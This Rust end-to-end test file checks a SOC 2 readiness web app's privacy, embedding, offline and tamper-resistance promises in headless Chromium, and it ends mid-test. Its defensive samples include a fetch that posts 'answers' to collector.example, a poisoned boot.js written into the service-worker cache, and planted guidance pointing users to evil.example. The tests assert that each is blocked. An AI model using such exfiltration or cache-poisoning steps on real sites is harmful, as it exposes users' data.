//! End-to-end proof of the privacy, embedding and offline promises, in
//! headless Chromium against the built `dist/` and `dist-single/`.
//!
//! Every network request is recorded three ways: the static server logs each
//! path it is asked for, the page's Resource Timing entries list everything
//! the document fetched (even from the service worker's cache), and
//! Chromium's DevTools network log lists every request the page started. A
//! script installed before any page script records Content-Security-Policy
//! violations.
//!
//! Needs `./setup.sh single-file` first (`./setup.sh test` does it) and
//! chromedriver on PATH. Run: `cargo test --features e2e --test e2e_privacy`.

#[path = "support/e2e.rs"]
mod e2e;

use e2e::*;
use serde_json::json;
use std::sync::atomic::Ordering;

// ------------------------------------------------------------------ tests

#[tokio::test(flavor = "multi_thread")]
async fn a_full_user_path_makes_no_request_and_nothing_can_leave() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-path");
    let c = browser(&driver, "path", &downloads).await;

    // The initial load: the app's own files, and the service worker caching them.
    c.goto(&server.url).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    // On its own page the app makes its full privacy promise, with no caveat.
    assert!(
        text(&c, "#privacy-claim")
            .await
            .contains("stored only here")
    );
    assert_eq!(count(&c, "#hosting-notice").await, 0);
    service_worker_in_control(&c).await;
    // The bank's long texts come right after start.
    wait_for(&c, ".soc2r-app[data-reference='loaded']").await;
    let loaded = over_the_network(&network_log(&c).await);
    assert!(!loaded.is_empty(), "the network log records requests");
    assert!(
        loaded.iter().all(|u| u.starts_with(&server.url)),
        "the initial load stays on the app's own server: {loaded:#?}"
    );
    let (served_before, fetched_before) = (server.request_count(), resources(&c).await);

    // Start, answer, export from the list, import the file, open the report.
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    click(&c, ".soc2r-header nav a[href='#/']").await;
    click(&c, ".soc2r-item button.export").await;
    let exported = downloaded(&downloads, ".soc2.json").await;
    import_as_new(&c, &exported).await;
    click(&c, ".tabs a[href$='/report']").await;
    wait_for(&c, ".tabs a[href$='/report'][aria-current]").await;
    click(&c, ".tabs a[href$='/crosswalk']").await;
    wait_for(&c, "#xw-themes").await;

    // Nothing was requested on the way from the server: the screens'
    // module and the crosswalk tables, fetched on first need, came from the
    // worker's copy. The document asked for nothing but those app files.
    let served = server.requests.lock().unwrap()[served_before..].to_vec();
    assert!(
        served.is_empty(),
        "requests during the user path: {served:?}"
    );
    let on_need = |u: &String| {
        let Some(file) = u.strip_prefix(&server.url) else {
            return false;
        };
        let split =
            (file.starts_with("split_") || file.starts_with("chunk_")) && file.ends_with(".wasm");
        let table = file.starts_with("crosswalk/") && file.ends_with(".json");
        (split || table) && !file.contains(['?', '#'])
    };
    let later: Vec<String> = resources(&c)
        .await
        .into_iter()
        .filter(|u| !fetched_before.contains(u))
        .collect();
    assert!(
        later.iter().all(on_need),
        "the document fetched more than the app's own files: {later:?}"
    );
    assert!(
        later
            .iter()
            .any(|u| u.ends_with("crosswalk/iso27001-2022.json")),
        "the crosswalk tables load when the crosswalk opens: {later:?}"
    );
    // The browser logs those on-need files as requests, which the worker
    // answered (the server saw none, above); nothing else was asked for.
    let during: Vec<String> = over_the_network(&network_log(&c).await)
        .into_iter()
        .filter(|u| !on_need(u))
        .collect();
    assert!(during.is_empty(), "network requests: {during:?}");
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    let all = resources(&c).await;
    assert!(
        all.iter().all(|u| u.starts_with(&server.url)),
        "every file came from the app's own server: {all:?}"
    );

    // And the policy is in force: a request to another site is refused.
    let attempt = c
        .execute_async(
            "const done = arguments[arguments.length - 1];
             fetch('https://collector.example/beacon', { method: 'POST', body: 'answers' })
               .then(() => done('sent'), () => done('refused'));",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(attempt, json!("refused"));
    let violations = csp_violations(&c).await;
    assert_eq!(violations.len(), 1, "{violations:?}");
    assert!(
        violations[0].starts_with("connect-src blocked https://collector.example"),
        "{violations:?}"
    );
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn erase_all_my_data_removes_every_record_after_a_confirmation() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-erase");
    let c = browser(&driver, "erase", &downloads).await;

    c.goto(&server.url).await.unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    // An unreadable record of ours, and another app's key on the same site.
    run(
        &c,
        "localStorage.setItem('soc2r/v1/assessment/broken', '{not json');
         localStorage.setItem('other-app/settings', 'keep me');",
    )
    .await;
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-notices .notice.error").await;

    click(&c, ".soc2r-header nav a[href='#/privacy']").await;
    wait_for(&c, "#storage-usage").await;
    let usage = text(&c, "#storage-usage").await;
    // The assessment, the unreadable record, and the questionnaire as it
    // was left (kept by boot.js for the next start), each named.
    assert!(
        usage.contains("3 keys stored in this browser under soc2r/"),
        "{usage}"
    );
    let page = text(&c, ".soc2r-privacy").await;
    assert!(page.contains("soc2r/v1/assessment/{id}"), "{page}");
    assert!(page.contains("soc2r/v1/paint"), "{page}");

    // A second thought: cancelling keeps everything.
    click(&c, "#erase-all").await;
    let question = text(&c, "#erase-question").await;
    assert!(question.contains("Erase 3 keys"), "{question}");
    click(&c, "#erase-cancel").await;
    assert_eq!(count(&c, "#erase-confirm").await, 0);
    assert_eq!(storage_keys(&c).await.len(), 4);

    // Confirmed: the keys are gone and the page reloads empty.
    click(&c, "#erase-all").await;
    run(&c, "window.__beforeErase = true;").await;
    click(&c, "#erase-confirm").await;
    eventually("the page to reload", || async {
        c.execute("return window.__beforeErase === undefined && document.querySelector('#storage-usage') !== null;", vec![])
            .await
            .map(|v| v == json!(true))
            .unwrap_or(false)
    })
    .await;
    assert_eq!(
        text(&c, "#storage-usage").await,
        "Nothing is stored in this browser under soc2r/."
    );
    assert_eq!(storage_keys(&c).await, vec!["other-app/settings"]);
    assert_eq!(count(&c, ".soc2r-notices .notice").await, 0);
    click(&c, ".soc2r-header nav a[href='#/']").await;
    wait_for(&c, ".soc2r-welcome").await;
    assert_eq!(count(&c, ".soc2r-item").await, 0);
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    c.close().await.unwrap();
}

/// Computed styles of host page elements that an embedded app could spoil.
const HOST_STYLES: &str = "
const props = ['color', 'background-color', 'font-family', 'font-size', 'font-weight',
  'line-height', 'letter-spacing', 'text-transform', 'text-align', 'margin-top', 'margin-bottom',
  'padding-top', 'padding-left', 'border-top-width', 'border-top-left-radius', 'box-sizing', 'display'];
return ['#host-title', '#host-intro', '#host-button', '#host-link'].map((sel) => {
  const style = getComputedStyle(document.querySelector(sel));
  return sel + ' ' + props.map((p) => p + ':' + style.getPropertyValue(p)).join('; ');
});";

#[tokio::test(flavor = "multi_thread")]
async fn a_vendor_page_embeds_the_app_without_either_spoiling_the_other() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-embed");
    let c = browser(&driver, "embed", &downloads).await;

    c.goto(&format!("{}embed-sample.html", server.url))
        .await
        .unwrap();
    wait_for(&c, "#soc2-readiness > .soc2r-app .soc2r-welcome").await;
    // Mounted in the vendor's element, once, configured by its attributes.
    assert_eq!(count(&c, ".soc2r-app").await, 1);
    // Inside the vendor's page it says plainly that the page can read it,
    // and promises nothing it cannot keep.
    let notice = text(&c, "#hosting-notice").await;
    assert!(notice.contains("website's own scripts"), "{notice}");
    assert!(
        !text(&c, "#privacy-claim")
            .await
            .contains("stored only here")
    );
    assert_eq!(count(&c, "body > .soc2r-app").await, 0);
    assert_eq!(
        text(&c, ".soc2r-app h1").await,
        "Acme Audit: SOC 2 readiness check"
    );
    let styles_with_app: Vec<String> = serde_json::from_value(run(&c, HOST_STYLES).await).unwrap();

    // The vendor's h1 and button rules do not reach into the app...
    let look: Vec<String> = serde_json::from_value(
        run(
            &c,
            "const h = getComputedStyle(document.querySelector('.soc2r-app h1'));
             const b = getComputedStyle(document.querySelector('.soc2r-app #start-full'));
             const host = getComputedStyle(document.querySelector('#host-title'));
             return [h.textTransform, h.letterSpacing, String(h.fontFamily === host.fontFamily),
                     b.textTransform, b.backgroundColor, b.borderTopLeftRadius];",
        )
        .await,
    )
    .unwrap();
    assert_eq!(
        look,
        [
            "none",
            "normal",
            "false",
            "none",
            "rgb(139, 30, 63)", // data-brand-colour, not the host's button colour
            "6.4px",
        ]
    );

    // ...and the app works there: answer a question.
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;

    // Keys typed on the vendor's page are the vendor's: "5" (not in place)
    // pressed with the page's body focused answers nothing; in the app it does.
    let missing = ready.replace("[data-status=ready]", "[data-status=missing]");
    run(
        &c,
        "document.body.dispatchEvent(new KeyboardEvent('keydown', { key: '5', bubbles: true }));",
    )
    .await;
    // Two animation frames: any render the key caused has happened.
    run(
        &c,
        "return new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));",
    )
    .await;
    assert!(!pressed(&c, &missing).await);
    assert!(
        pressed(&c, &ready).await,
        "a key on the host page changed an answer"
    );
    run(
        &c,
        &format!(
            "document.querySelector('{}').dispatchEvent(new KeyboardEvent('keydown', {{ key: '5', bubbles: true }}));",
            ready.split(' ').next().unwrap_or_default()
        ),
    )
    .await;
    eventually("the key inside the app answers", || async {
        pressed(&c, &missing).await
    })
    .await;
    let keys = storage_keys(&c).await;
    assert!(
        !keys.is_empty() && keys.iter().all(|k| k.starts_with("acme-soc2/v1/")),
        "stored under the vendor's namespace: {keys:?}"
    );

    // The host elements look exactly as they do without the app at all.
    run(
        &c,
        "document.querySelector('link[href=\"./app.css\"]').disabled = true;
         document.querySelector('#soc2-readiness').remove();",
    )
    .await;
    let styles_without_app: Vec<String> =
        serde_json::from_value(run(&c, HOST_STYLES).await).unwrap();
    assert_eq!(styles_with_app, styles_without_app);
    assert!(
        styles_with_app[0].contains("text-transform:uppercase"),
        "the host's own rules apply: {}",
        styles_with_app[0]
    );

    // The isolated embed: the same app in an iframe.
    eventually("the app inside the iframe", || async {
        c.execute(
            "const d = document.querySelector('iframe').contentDocument;
             return d !== null && d.querySelector('.soc2r-app .soc2r-welcome') !== null;",
            vec![],
        )
        .await
        .map(|v| v == json!(true))
        .unwrap_or(false)
    })
    .await;

    // The sample's iframe is of the same origin: no isolation, and it says so.
    let framed = run(
        &c,
        "const n = document.querySelector('iframe').contentDocument.querySelector('#hosting-notice');
         return n ? n.textContent : '';",
    )
    .await;
    assert!(
        framed
            .as_str()
            .is_some_and(|t| t.contains("framed by a page of the same website")),
        "{framed}"
    );

    // Nothing went anywhere but the app's own files, and the host's strict
    // CSP (in the sample page) was never violated, by either embed.
    let log = over_the_network(&network_log(&c).await);
    assert!(
        log.iter().all(|u| u.starts_with(&server.url)),
        "requests: {log:#?}"
    );
    let frame_fetches: Vec<String> = serde_json::from_value(
        run(
            &c,
            "return document.querySelector('iframe').contentWindow.performance
               .getEntriesByType('resource').map((e) => e.name);",
        )
        .await,
    )
    .unwrap();
    for u in resources(&c).await.iter().chain(&frame_fetches) {
        assert!(u.starts_with(&server.url), "fetched from elsewhere: {u}");
    }
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    let frame_violations = run(
        &c,
        "return document.querySelector('iframe').contentWindow.__cspViolations;",
    )
    .await;
    assert_eq!(frame_violations, json!([]));
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn the_single_file_works_from_disk_with_storage_and_files() {
    let page = project_file("dist-single/soc2-readiness.html");
    let driver = start_driver();
    let downloads = temp_dir("downloads-single");
    let c = browser(&driver, "single", &downloads).await;
    let address = format!("file://{}", page.display());

    c.goto(&address).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    // From disk, answers stay in the tab by default, and the app says why.
    let notice = text(&c, "#hosting-notice").await;
    assert!(
        notice.contains("stay in this tab only") && notice.contains("could read them"),
        "{notice}"
    );
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    assert!(
        storage_keys(&c).await.is_empty(),
        "nothing stored before the user chooses to"
    );
    c.refresh().await.unwrap();
    click(&c, ".soc2r-header nav a[href='#/']").await;
    wait_for(&c, ".soc2r-welcome").await;
    assert_eq!(count(&c, ".soc2r-item").await, 0, "gone with the tab");

    // One click keeps them in this browser from then on.
    click(&c, "#keep-in-browser").await;
    eventually("the kept notice", || async {
        text(&c, "#hosting-notice")
            .await
            .contains("are kept in this browser")
    })
    .await;
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    let score = text(&c, "#overall-readiness").await;

    // Reload from disk: the answer was kept in local storage.
    c.refresh().await.unwrap();
    wait_for(&c, &ready).await;
    assert!(pressed(&c, &ready).await, "answer kept after reload");
    assert_eq!(text(&c, "#overall-readiness").await, score);

    // Export and import work without any server.
    click(&c, ".soc2r-header nav a[href='#/']").await;
    click(&c, ".soc2r-item button.export").await;
    let exported = downloaded(&downloads, ".soc2.json").await;
    import_as_new(&c, &exported).await;
    click(&c, ".soc2r-header nav a[href='#/']").await;
    eventually("two assessments", || async {
        count(&c, ".soc2r-item").await == 2
    })
    .await;

    // The crosswalks come from inside the file.
    let id = c
        .find(fantoccini::Locator::Css(".soc2r-item"))
        .await
        .unwrap()
        .attr("data-id")
        .await
        .unwrap()
        .unwrap();
    c.goto(&format!("{address}#/a/{id}/crosswalk"))
        .await
        .unwrap();
    wait_for(&c, "#xw-themes").await;
    assert_eq!(count(&c, "#crosswalk-failed").await, 0);

    // One file, nothing fetched, nothing blocked.
    assert_eq!(resources(&c).await, Vec::<String>::new());
    let log = over_the_network(&network_log(&c).await);
    assert!(log.is_empty(), "network requests: {log:?}");
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());

    // A new tab: any file opened from disk could have put records (and the
    // opt-in) in the storage for files, so they are offered, not loaded.
    let second = c.new_window(true).await.unwrap().handle;
    c.switch_to_window(second).await.unwrap();
    c.goto(&address).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    let notice = text(&c, "#hosting-notice").await;
    assert!(notice.contains("holds 2 assessments"), "{notice}");
    assert_eq!(count(&c, ".soc2r-item").await, 0, "nothing loaded unasked");
    click(&c, "#keep-in-browser").await;
    eventually("the kept records loaded once the user says so", || async {
        count(&c, ".soc2r-item").await == 2
    })
    .await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn after_one_visit_the_app_works_with_the_server_gone() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-offline");
    let c = browser(&driver, "offline", &downloads).await;

    c.goto(&server.url).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    // On its own page the app makes its full privacy promise, with no caveat.
    assert!(
        text(&c, "#privacy-claim")
            .await
            .contains("stored only here")
    );
    assert_eq!(count(&c, "#hosting-notice").await, 0);
    service_worker_in_control(&c).await;

    // Any script of the origin can write to the worker's cache: a poisoned
    // boot.js there is never served; the worker fetches and checks it again.
    let poisoned = run(
        &c,
        "return (async () => {
           const mine = (await caches.keys()).filter((k) => k.startsWith('soc2r-'));
           for (const k of mine) {
             const cache = await caches.open(k);
             await cache.put(new URL('./boot.js', location.href).href,
               new Response(\"document.title = 'poisoned';\",
                 { headers: { 'content-type': 'text/javascript' } }));
           }
           return mine.length;
         })();",
    )
    .await;
    assert_eq!(poisoned, json!(1), "one cache, named for this deployment");
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    assert_ne!(c.title().await.unwrap(), "poisoned");
    let repaired = run(
        &c,
        "return (async () => {
           const k = (await caches.keys()).find((k) => k.startsWith('soc2r-'));
           const r = await (await caches.open(k)).match(new URL('./boot.js', location.href).href);
           return [k.includes(encodeURIComponent(location.origin)), (await r.text()).includes('poisoned')];
         })();",
    )
    .await;
    assert_eq!(repaired, json!([true, false]), "the cache is repaired");

    // The server dies; the next visit still gets the whole app.
    server.offline.store(true, Ordering::SeqCst);
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    // The crosswalk tables too, from the offline copy.
    click(&c, ".tabs a[href$='/crosswalk']").await;
    wait_for(&c, "#xw-themes").await;
    click(&c, ".tabs a[href$='/questions']").await;
    c.refresh().await.unwrap();
    wait_for(&c, &ready).await;
    assert!(
        pressed(&c, &ready).await,
        "answer kept after an offline reload"
    );
    assert_eq!(csp_violations(&c).await, Vec::<String>::new());
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_assessment_exported_with_a_password_imports_only_with_it() {
    let server = serve(dist_dir());
    let driver = start_driver();
    let downloads = temp_dir("downloads-sealed");
    let c = browser(&driver, "sealed", &downloads).await;
    c.goto(&server.url).await.unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    click(&c, ".soc2r-header nav a[href='#/']").await;

    // Export with a password: too short is refused, then a good one.
    click(&c, ".soc2r-item button.export-protected").await;
    let fill = |name: &'static str, value: &'static str| {
        let c = c.clone();
        async move {
            let input = wait_for(&c, &format!("form.protect input[name={name}]")).await;
            input.clear().await.unwrap();
            input.send_keys(value).await.unwrap();
        }
    };
    fill("password", "short").await;
    fill("again", "short").await;
    click(&c, "form.protect button[type=submit]").await;
    eventually("the password advice", || async {
        text(&c, "form.protect .notice")
            .await
            .contains("10 characters")
    })
    .await;
    fill("password", "correct horse battery").await;
    fill("again", "correct horse battery").await;
    click(&c, "form.protect button[type=submit]").await;
    let file = downloaded(&downloads, "-protected.soc2.json").await;
    let text_of_file = std::fs::read_to_string(&file).unwrap();
    assert!(text_of_file.contains("soc2-readiness-encrypted"));
    assert!(
        !text_of_file.contains("\"answers\""),
        "the answers are not readable"
    );

    // Import: a wrong password is refused and nothing is stored; the right
    // one opens it, then the usual checks and the copy-or-replace choice.
    let before = storage_keys(&c).await.len();
    choose_file(&c, "#import-file", &file).await;
    let password = wait_for(&c, "#import-password").await;
    password.send_keys("wrong password!").await.unwrap();
    click(&c, "#import-unlock").await;
    eventually("the wrong-password message", || async {
        text(&c, "#import-unlock-problem")
            .await
            .contains("does not open this file")
    })
    .await;
    assert_eq!(storage_keys(&c).await.len(), before, "nothing stored");
    let password = wait_for(&c, "#import-password").await;
    password.clear().await.unwrap();
    password.send_keys("correct horse battery").await.unwrap();
    click(&c, "#import-unlock").await;
    click(&c, "#import-as-new").await;
    // The notice says it was opened with its password (a protected file
    // swapped for a plain one would say it was not protected).
    eventually("the import notice", || async {
        text(&c, ".soc2r-notices")
            .await
            .contains("opened with its password")
    })
    .await;
    click(&c, ".soc2r-header nav a[href='#/']").await;
    eventually("two assessments", || async {
        count(&c, ".soc2r-item").await == 2
    })
    .await;
}

/// A copy of `dist/` to change for one test.
/// A copy of `dist/` with its folders (the bank and crosswalk files).
fn dist_copy(name: &str) -> std::path::PathBuf {
    fn copy(from: &std::path::Path, to: &std::path::Path) {
        std::fs::create_dir_all(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                copy(&path, &to.join(entry.file_name()));
            } else {
                std::fs::copy(&path, to.join(entry.file_name())).unwrap();
            }
        }
    }
    let dir = temp_dir(name);
    copy(&dist_dir(), &dir);
    dir
}

#[tokio::test(flavor = "multi_thread")]
async fn offline_use_survives_a_missing_sample_page_and_opting_out_removes_the_worker() {
    // Deployed without the optional sample page: still cached, still offline.
    let dir = dist_copy("dist-no-sample");
    std::fs::remove_file(dir.join("embed-sample.html")).unwrap();
    let server = serve(dir.clone());
    let driver = start_driver();
    let c = browser(&driver, "sw-optional", &temp_dir("downloads-sw")).await;
    c.goto(&server.url).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    service_worker_in_control(&c).await;
    server.offline.store(true, Ordering::SeqCst);
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    server.offline.store(false, Ordering::SeqCst);

    // The site then opts out: pages are fetched from the network first, so
    // the changed page is seen at once, and it removes the worker and the
    // app's cached copies.
    let index = std::fs::read_to_string(dir.join("index.html")).unwrap();
    let opted_out = index.replace(
        "<div id=\"soc2-readiness\"",
        "<div id=\"soc2-readiness\" data-offline=\"off\"",
    );
    assert_ne!(index, opted_out);
    std::fs::write(dir.join("index.html"), opted_out).unwrap();
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    eventually("the worker and its caches gone", || async {
        let left = c
            .execute_async(
                "const done = arguments[arguments.length - 1];
                 Promise.all([navigator.serviceWorker.getRegistrations(), caches.keys()])
                   .then(([r, k]) => done(r.length + k.filter((n) => n.startsWith('soc2r-')).length));",
                vec![],
            )
            .await
            .unwrap();
        left == json!(0)
    })
    .await;
}

/// Copies a directory tree (the built app, to serve it under a vendor's
/// folder beside host pages).
fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap().flatten() {
        let path = entry.path();
        let target = to.join(entry.file_name());
        if path.is_dir() {
            copy_dir(&path, &target);
        } else {
            std::fs::copy(&path, &target).unwrap();
        }
    }
}

/// The security review's host page: a tag manager in `<head>` and only the
/// mount element in `<body>`.
const VENDOR_HEAD: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>vendor</title>
<script src="/vendor/analytics.js"></script>
<link rel="stylesheet" href="/soc2/app.css"><script type="module" src="/soc2/boot.js"></script>
</head><body><div id="soc2-readiness" data-namespace="acme"></div></body></html>"#;

#[tokio::test(flavor = "multi_thread")]
async fn only_the_apps_own_page_gets_the_own_page_claim() {
    let root = temp_dir("host-pages");
    copy_dir(&dist_dir(), &root.join("soc2"));
    std::fs::create_dir_all(root.join("vendor")).unwrap();
    std::fs::write(root.join("vendor/analytics.js"), "window.vendorSaw = true;").unwrap();
    std::fs::write(root.join("vendor-head.html"), VENDOR_HEAD).unwrap();
    // Two origins (two ports): A frames B, which frames the app back on A.
    let a = serve(root.clone());
    let b = serve(root.clone());
    let frame = |src: String| {
        format!(
            r#"<!doctype html><html><head><meta charset="utf-8"><title>f</title></head>
<body><iframe src="{src}" width="900" height="700" title="f"></iframe></body></html>"#
        )
    };
    std::fs::write(
        root.join("top.html"),
        frame(format!("{}middle.html", b.url)),
    )
    .unwrap();
    std::fs::write(
        root.join("middle.html"),
        frame(format!("{}soc2/index.html", a.url)),
    )
    .unwrap();
    let driver = start_driver();
    let c = browser(&driver, "host-pages", &temp_dir("downloads-host-pages")).await;

    // A tag manager in the head: the vendor's scripts can read the app, and
    // it says so, whatever the body looks like.
    c.goto(&format!("{}vendor-head.html", a.url)).await.unwrap();
    wait_for(&c, ".soc2r-app .soc2r-welcome").await;
    let notice = text(&c, "#hosting-notice").await;
    assert!(notice.contains("website's own scripts"), "{notice}");
    let claim = text(&c, "#privacy-claim").await;
    assert!(!claim.contains("stored only here"), "{claim}");

    // A → B → A: the top page is of the app's origin and can reach in.
    c.goto(&format!("{}top.html", a.url)).await.unwrap();
    wait_for(&c, "iframe").await;
    c.enter_frame(0).await.unwrap();
    wait_for(&c, "iframe").await;
    c.enter_frame(0).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    let notice = text(&c, "#hosting-notice").await;
    assert!(
        notice.contains("framed by a page of the same website"),
        "{notice}"
    );

    // The app's own page, as built: the full claim, no notice.
    c.goto(&format!("{}soc2/index.html", a.url)).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    assert_eq!(count(&c, "#hosting-notice").await, 0);
    assert!(
        text(&c, "#privacy-claim")
            .await
            .contains("stored only here")
    );
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn reference_files_come_only_from_the_apps_folder_and_only_as_built() {
    // The app under /soc2/ with a planted crosswalk (every link `equal`)
    // and a bank whose guidance was changed; another origin serves a
    // script named like ours.
    let root = temp_dir("reference-pages");
    copy_dir(&dist_dir(), &root.join("soc2"));
    for stale in ["crosswalk/iso27001-2022.json", "bank/soc2-bank.json"] {
        for suffix in [".gz", ".br"] {
            let _ = std::fs::remove_file(root.join("soc2").join(format!("{stale}{suffix}")));
        }
    }
    let iso = root.join("soc2/crosswalk/iso27001-2022.json");
    let planted = std::fs::read_to_string(&iso)
        .unwrap()
        .replace("\"intersects\"", "\"equal\"");
    std::fs::write(&iso, planted).unwrap();
    let bank = root.join("soc2/bank/soc2-bank.json");
    let changed = std::fs::read_to_string(&bank).unwrap().replacen(
        "\"guidance\": \"",
        "\"guidance\": \"Upload your export to https://evil.example first. ",
        1,
    );
    std::fs::write(&bank, changed).unwrap();
    let other = serve(temp_dir("reference-other-origin"));
    std::fs::write(
        root.join("vendor.html"),
        format!(
            r#"<!doctype html><html><head><meta charset="utf-8"><title>vendor</title>
<script src="{}widget/chat-boot.js"></script>
<link rel="stylesheet" href="/soc2/app.css"><script type="module" src="/soc2/boot.js"></script>
</head><body><h1>Vendor</h1><div id="soc2-readiness"></div></body></html>"#,
            other.url
        ),
    )
    .unwrap();
    let server = serve(root.clone());
    let driver = start_driver();
    let c = browser(&driver, "reference", &temp_dir("downloads-reference")).await;
    c.goto(&format!("{}vendor.html", server.url)).await.unwrap();
    wait_for(&c, ".soc2r-app[data-reference='loaded']").await;
    // Nothing was asked of the other origin but its own script.
    let asked: Vec<String> = other.requests.lock().unwrap().clone();
    assert!(
        asked.iter().all(|p| p.ends_with("chat-boot.js")),
        "the app asked another origin for {asked:?}"
    );
    // The changed files were fetched from the app's folder, and not used.
    let notices = text(&c, ".soc2r-notices").await;
    assert!(
        notices.contains("bank/soc2-bank.json is not the file this app was built with"),
        "{notices}"
    );
    assert!(
        notices.contains("Answers, scores and the outcome work without them"),
        "{notices}"
    );
    let ready = start_assessment(&c).await;
    let _ = ready;
    let url = c.current_url().await.unwrap().to_string();
    let base = url
        .split('#')
        .nth(1)
        .unwrap()
        .split("/questions")
        .next()
        .unwrap()
        .to_owned();
    c.goto(&format!("{}vendor.html#{base}/crosswalk", server.url))
        .await
        .unwrap();
    eventually("the planted crosswalk refused", || async {
        text(&c, ".soc2r-app")
            .await
            .contains("crosswalk/iso27001-2022.json is not the file")
    })
    .await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edited_index_html_keeps_offline_use_once_restamped() {
    // A vendor sets the iframe's title in dist/index.html, then restamps.
    let dir = dist_copy("dist-restamp");
    let index = dir.join("index.html");
    let edited = std::fs::read_to_string(&index).unwrap().replace(
        "data-title=\"SOC 2 readiness assessment\"",
        "data-title=\"Acme readiness\"",
    );
    assert!(edited.contains("Acme readiness"));
    std::fs::write(&index, edited).unwrap();
    let status = std::process::Command::new(project_file("setup.sh"))
        .arg("restamp")
        .env("SOC2R_DIST", &dir)
        .env("SOC2R_NO_PRECOMPRESS", "1")
        .status()
        .expect("setup.sh runs");
    assert!(status.success());
    let server = serve(dir);
    let driver = start_driver();
    let c = browser(&driver, "restamp", &temp_dir("downloads-restamp")).await;
    c.goto(&server.url).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    assert_eq!(text(&c, ".soc2r-app h1").await, "Acme readiness");
    // The worker installs: its digests match the edited page.
    service_worker_in_control(&c).await;
    server.offline.store(true, Ordering::SeqCst);
    c.refresh().await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_screen_that_cannot_be_fetched_says_so_and_opens_on_retry() {
    // No offline copy, and the screens' module missing from the server,
    // as when a connection drops before the worker saved it.
    let dir = dist_copy("dist-split-missing");
    let index = dir.join("index.html");
    let page = std::fs::read_to_string(&index).unwrap().replace(
        "<div id=\"soc2-readiness\"",
        "<div id=\"soc2-readiness\" data-offline=\"off\"",
    );
    std::fs::write(&index, page).unwrap();
    let module = dir.join("split_screens.wasm");
    let kept = dir.join("kept.bin");
    std::fs::rename(&module, &kept).unwrap();
    let server = serve(dir);
    let driver = start_driver();
    let c = browser(&driver, "split-missing", &temp_dir("downloads-split")).await;
    c.goto(&server.url).await.unwrap();
    wait_for(&c, ".soc2r-welcome").await;
    click(&c, ".soc2r-header nav a[href='#/help']").await;
    let failed = wait_for(&c, "#screen-failed[role='alert']").await;
    let said = failed.text().await.unwrap();
    assert!(
        said.contains("could not be loaded") && said.contains("Your answers are safe"),
        "{said}"
    );
    // Back online: the retry fetches it and the screen opens.
    std::fs::rename(&kept, &module).unwrap();
    click(&c, "#screen-failed button").await;
    wait_for(&c, "#help-heading").await;
    // The list of assessments, in the main module, works throughout.
    click(&c, ".soc2r-header nav a[href='#/']").await;
    wait_for(&c, ".soc2r-welcome").await;
    assert_eq!(count(&c, "#screen-failed").await, 0);
    c.close().await.unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn stored_assessments_wait_for_their_reader_and_are_never_called_unreadable() {
    // No offline copy; the readers' module goes missing after a first visit.
    let dir = dist_copy("dist-readers-missing");
    let index = dir.join("index.html");
    let page = std::fs::read_to_string(&index).unwrap().replace(
        "<div id=\"soc2-readiness\"",
        "<div id=\"soc2-readiness\" data-offline=\"off\"",
    );
    std::fs::write(&index, page).unwrap();
    let module = dir.join("split_readers.wasm");
    let kept = dir.join("kept-readers.bin");
    let server = serve(dir);
    let driver = start_driver();
    let c = browser(&driver, "readers-missing", &temp_dir("downloads-readers")).await;
    c.goto(&server.url).await.unwrap();
    let ready = start_assessment(&c).await;
    answer_ready(&c, &ready).await;
    // The records (the kept screen, soc2r/v1/paint, is written on leaving).
    let records = |keys: Vec<String>| -> Vec<String> {
        keys.into_iter()
            .filter(|k| !k.ends_with("/paint"))
            .collect()
    };
    let stored = records(storage_keys(&c).await);
    assert_eq!(stored.len(), 1, "{stored:?}");

    std::fs::rename(&module, &kept).unwrap();
    c.goto(&server.url).await.unwrap();
    let failed = wait_for(&c, "#readers-failed[role='alert']").await;
    let said = failed.text().await.unwrap();
